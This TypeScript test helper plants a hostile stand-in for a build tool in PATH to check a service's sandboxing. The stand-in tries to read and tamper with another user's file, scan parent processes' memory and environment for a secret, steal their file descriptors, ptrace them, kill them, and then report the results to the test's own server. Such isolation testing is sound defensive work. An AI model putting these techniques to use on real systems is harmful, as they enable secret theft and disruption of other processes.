/**
 * A program that has gone over to the enemy: planted in PATH in place of `xz`, `npm`, …, it tries all that it should not
 * be able to, tells a server of the test what came of each attempt, and then does its work, so that nobody notices.
 */

import { chmodSync, mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { temporaryDirectory } from './master.ts'
import { findProgram } from './requirements.ts'
import { serveHttp } from './web.ts'

export interface HostileProgram {
  /** To be put in front of PATH. */
  readonly folder: string
  /** What each attempt came to: its result as text, or the code of the error. One for each time it ran. */
  readonly reports: readonly Readonly<Record<string, string>>[]
}

export interface Targets {
  /** `<state-dir>/<name>` of the service. */
  home: string
  /** A file of somebody else. */
  victim: string
  /** What it looks for in other processes' memory. */
  secret: string
}

const PACKAGE = JSON.stringify(join(process.cwd(), 'package.json'))

export async function plantProgram(name: string, targets: Targets): Promise<HostileProgram> {
  const real = findProgram(name)
  if (real === null) throw new Error(`there is no ${name} here`)
  const reports: Record<string, string>[] = []
  const web = await serveHttp((request, response) => {
    let text = ''
    request.setEncoding('utf8').on('data', (piece) => {
      text += piece
    })
    request.on('end', () => {
      reports.push(JSON.parse(text) as Record<string, string>)
      response.end()
    })
  })
  // Its user may not be the one of the test, and may have no right to look everywhere.
  const parent = temporaryDirectory()
  const folder = join(parent, 'planted')
  mkdirSync(folder)
  chmodSync(parent, 0o755)
  const path = join(folder, name)
  writeFileSync(path, textOf(real, web.origin, targets))
  chmodSync(path, 0o755)
  return { folder, reports }
}

/** The master is the parent of the process that leads the session: the stager. */
function textOf(real: string, origin: string, targets: Targets): string {
  return `#!${process.execPath}
const fs = require('node:fs')
const net = require('node:net')
const { spawn, spawnSync } = require('node:child_process')
const { join } = require('node:path')
const koffi = require('node:module').createRequire(${PACKAGE})('koffi')
const { home, victim, secret } = ${JSON.stringify(targets)}
const parentOf = (pid) => Number(/^PPid:\\s*(\\d+)/m.exec(fs.readFileSync('/proc/' + pid + '/status', 'utf8'))[1])
const sessionOf = (pid) => fs.readFileSync('/proc/' + pid + '/stat', 'latin1').replace(/^.*\\) /s, '').split(' ')[3]
const stager = process.ppid
const master = parentOf(stager)
const libc = koffi.load(null)
const syscall = libc.func('long syscall(long number, ...)')
const ptrace = libc.func('long ptrace(long, long, long, long)')
const errno = (result) => (Number(result) === -1 ? 'errno ' + koffi.errno() : 'ok')
const call = (...args) => errno(syscall(args[0], ...args.slice(1).flatMap((each) => ['long', each])))
const took = {}
const attempt = async (name, work) => {
  try { took[name] = String((await work()) ?? 'ok') } catch (error) { took[name] = error.code ?? error.message }
}

/** Where the secret stands in the memory of a process that may be read. */
function search(pid) {
  const memory = fs.openSync('/proc/' + pid + '/mem', 'r')
  for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\\n')) {
    const [, from, to] = /^(\\w+)-(\\w+) rw/.exec(line) ?? []
    if (from === undefined) continue
    const start = parseInt(from, 16)
    const piece = Buffer.alloc(Math.min(parseInt(to, 16) - start, 1 << 28))
    try { fs.readSync(memory, piece, 0, piece.length, start) } catch { continue }
    if (piece.includes(secret)) return 'found'
  }
  return 'not found'
}

function takeDescriptors(pid) {
  const pidfd = Number(syscall(434, 'long', pid, 'long', 0))
  if (pidfd < 0) return 'errno ' + koffi.errno()
  for (let fd = 3; fd < 64; fd++) if (Number(syscall(438, 'long', pidfd, 'long', fd, 'long', 0)) >= 0) return 'took ' + fd
  return 'none'
}

async function run() {
  await attempt('read', () => fs.readFileSync(victim, 'utf8'))
  await attempt('overwrite', () => fs.writeFileSync(victim, 'x'))
  await attempt('create', () => fs.writeFileSync(victim + '-new', 'x'))
  await attempt('unlink', () => fs.unlinkSync(victim))
  await attempt('setuid', () => { fs.chmodSync(victim, 0o4777); return fs.statSync(victim).mode & 0o4000 ? 'ok' : 'no' })
  await attempt('state', () => fs.writeFileSync(join(home, 'state.json'), '{}'))
  await attempt('builds', () => fs.writeFileSync(join(home, 'builds/x'), 'x'))
  await attempt('current', () => fs.renameSync(join(home, 'current'), join(home, 'tmp/current')))
  await attempt('data', () => fs.writeFileSync(join(home, 'data/x'), 'x'))
  await attempt('control', () => new Promise((resolve, reject) => net.connect(join(home, 'control.sock'), resolve).on('error', reject)))
  await attempt('environment', () => Object.entries(process.env).some(([, value]) => value.includes(secret)) ? 'secret' : 'ok')
  await attempt('descriptors', () => fs.readdirSync('/proc/self/fd').filter((fd) => fd > 2).map((fd) => { try { return fs.readlinkSync('/proc/self/fd/' + fd) } catch { return '' } }).filter((target) => target.includes('socket:') || target.includes(home)).join())
  for (const [who, pid] of [['master', master], ['stager', stager]]) {
    await attempt(who + ' environ', () => fs.readFileSync('/proc/' + pid + '/environ', 'utf8').includes(secret) ? 'secret' : 'read')
    await attempt(who + ' memory', () => search(pid))
    await attempt(who + ' fd', () => fs.readdirSync('/proc/' + pid + '/fd').map((fd) => fs.readlinkSync('/proc/' + pid + '/fd/' + fd)).length)
    await attempt(who + ' take', () => takeDescriptors(pid))
    await attempt(who + ' trace', () => errno(ptrace(0x4206, pid, 0, 0)))
  }
  await attempt('master kill', () => process.kill(master, 'SIGKILL'))
  await attempt('master stop', () => process.kill(master, 'SIGSTOP'))
  await attempt('worker kill', () => {
    let came = 'none'
    for (const pid of fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name)).map(Number)) {
      // What it left behind itself earlier belongs to its own session.
      try { if (parentOf(pid) !== master || sessionOf(pid) === sessionOf('self')) continue } catch { continue }
      process.kill(pid, 'SIGKILL')
      came = 'ok'
    }
    return came
  })
  ${process.arch === 'x64' ? "await attempt('master limits', () => call(302, master, 7, 0, 0))" : ''}
  const stays = spawn('sleep', ['1000'], { stdio: 'ignore', detached: true }).on('error', () => {})
  stays.unref()
  took.stays = String(stays.pid)
  await fetch(${JSON.stringify(origin)}, { method: 'POST', body: JSON.stringify(took) })
  const { status } = spawnSync(${JSON.stringify(real)}, process.argv.slice(2), { stdio: 'inherit' })
  process.exit(status ?? 1)
}
run()
`
}
